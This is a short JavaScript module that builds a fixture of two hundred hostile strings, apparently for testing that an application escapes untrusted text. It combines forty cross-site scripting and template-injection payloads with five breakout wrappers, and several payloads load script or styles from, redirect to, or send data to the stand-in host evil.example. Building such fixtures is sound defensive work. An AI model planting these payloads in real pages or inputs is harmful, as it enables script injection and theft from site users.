// Texts that would do something if they ever became markup, an address or a template: forty bodies
// in five wrappings, two hundred in all.

const BODIES = [
  '<script>hit()</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=hit()>',
  '<img src="x" onerror="hit()">',
  '<IMG SRC=x ONERROR=hit()>',
  '<img/src=x/onerror=hit()>',
  '<img src=`x`onerror=hit()>',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hit()>#x"/></svg>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--><img src=x onerror=hit()>">',
  '<body onload=hit()>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">',
  '<a href="javascript:hit()" autofocus>张三</a>',
  '<a href="https://evil.example/">李四</a>',
  '<form action="https://evil.example/"><input name=x autofocus onfocus=hit()></form>',
  '<button formaction="javascript:hit()">核验</button>',
  '<details open ontoggle=hit()><summary>x</summary></details>',
  '<video><source onerror=hit()></video>',
  '<audio src=x onerror=hit()></audio>',
  '<marquee onstart=hit()>x</marquee>',
  '<style>*{background:url(//evil.example/?x)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=prefetch href=//evil.example/x>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href="//evil.example/">',
  '<template><img src=x onerror=hit()></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<!--><img src=x onerror=hit()>-->',
  '<![CDATA[<img src=x onerror=hit()>]]>',
  'javascript:hit()',
  'data:text/html,<script>hit()</script>',
  '${hit()}{{hit()}}#{hit()}<%=hit()%>',
  '&lt;img src=x onerror=hit()&gt;&#60;script&#62;hit()&#60;/script&#62;',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  '＜script＞hit()＜/script＞',
];

const WRAPPINGS = [
  (body) => body,
  (body) => `张三${body}`,
  (body) => `">${body}<"`,
  (body) => `'/></dd></dl></section>${body}`,
  (body) => `</textarea></title></style></script>${body}`,
];

/** Two hundred texts, no two the same. */
export const hostileTexts = WRAPPINGS.flatMap((wrap) => BODIES.map(wrap));
